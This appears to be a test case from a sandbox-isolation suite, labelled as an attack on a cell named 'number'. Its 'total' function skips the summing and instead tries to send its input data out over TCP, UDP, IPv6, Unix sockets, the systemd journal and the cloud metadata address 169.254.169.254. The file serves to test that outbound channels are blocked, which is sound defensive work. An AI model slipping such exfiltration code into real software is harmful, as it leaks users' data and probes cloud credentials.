# attack: C-3, C-4, C-5 Sends what it knows to anybody who listens: TCP, UDP, local sockets, a cloud's metadata.
# verdict: fails number (error)
# needs: 2
# says: number-by-hand: nobody listens
# cell: number
import socket

def total(values):
    told = 0
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@PORT@"))),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@PORT@"))),
        (socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80)),
        (socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@PORT@"))),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0welldone"),
        (socket.AF_UNIX, socket.SOCK_DGRAM, "/run/systemd/journal/socket"),
    ):
        try:
            with socket.socket(family, kind) as connection:
                connection.settimeout(0.2)
                connection.connect(address)
                told += connection.send(repr(values).encode())
        except OSError:
            pass
    raise ValueError("nobody listens" if not told else f"{told} bytes got out")
